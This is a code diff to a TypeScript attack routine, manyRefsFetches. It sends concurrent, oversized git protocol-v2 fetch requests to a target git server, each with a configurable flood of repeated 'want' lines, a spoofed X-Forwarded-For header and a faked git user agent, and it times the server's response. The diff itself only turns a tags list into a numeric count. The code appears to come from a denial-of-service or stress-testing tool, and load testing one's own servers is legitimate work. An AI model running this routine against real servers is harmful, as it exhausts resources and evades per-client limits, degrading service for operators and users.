@@ -250,13 +250,13 @@ function rawRequest(url: string, head: string, body: Buffer | undefined, track: 
  * neither `nice` nor SCHED_IDLE holds back, and would measure the client, not the server. The
  * server sees the same requests either way.
  */
-export async function manyRefsFetches(t: Target, repo: string, tags: string[], oid: string, clients = 4): Promise<Attack> {
+export async function manyRefsFetches(t: Target, repo: string, refs: number, oid: string, clients = 4): Promise<Attack> {
   const base = `${t.url()}/${repo}.git`;
   const common = `X-Forwarded-For: ${t.forwardedFor}\r\nGit-Protocol: version=2\r\nUser-Agent: git/2.39.5\r\n`;
   const post = `Content-Type: application/x-git-upload-pack-request\r\nAccept: application/x-git-upload-pack-result\r\n`;
   const caps = [pkt('agent=git/2.39.5\n'), pkt('object-format=sha1\n'), Buffer.from('0001')];
   const lsRefs = Buffer.concat([pkt('command=ls-refs\n'), ...caps, pkt('peel\n'), pkt('symrefs\n'), pkt('unborn\n'), pkt('ref-prefix refs/tags/\n'), FLUSH]);
-  const fetchLines = [pkt('command=fetch\n'), ...caps, pkt('thin-pack\n'), pkt('no-progress\n'), pkt('ofs-delta\n'), ...tags.map(() => pkt(`want ${oid}\n`)), pkt('done\n'), FLUSH];
+  const fetchLines = [pkt('command=fetch\n'), ...caps, pkt('thin-pack\n'), pkt('no-progress\n'), pkt('ofs-delta\n'), ...Array.from({ length: refs }, () => pkt(`want ${oid}\n`)), pkt('done\n'), FLUSH];
   const chunked = Buffer.concat([...fetchLines.flatMap((l) => [Buffer.from(`${l.length.toString(16)}\r\n`), l, Buffer.from('\r\n')]), Buffer.from('0\r\n\r\n')]);
   const tally = new Tally();
   const seconds: number[] = [];
@@ -291,7 +291,7 @@ export async function manyRefsFetches(t: Target, repo: string, tags: string[], o
     summary: () => {
       const sorted = [...seconds].sort((a, b) => a - b);
       const median = sorted.length ? `${sorted[Math.floor(sorted.length / 2)]!.toFixed(1)} s` : 'n/a';
-      return `${clients} clients, ${tags.length} wants per fetch (${(chunked.length / MiB).toFixed(1)} MiB, ${fetchLines.length} chunks); fetches ${tally}, median ${median}`;
+      return `${clients} clients, ${refs} wants per fetch (${(chunked.length / MiB).toFixed(1)} MiB, ${fetchLines.length} chunks); fetches ${tally}, median ${median}`;
     },
   };
 }
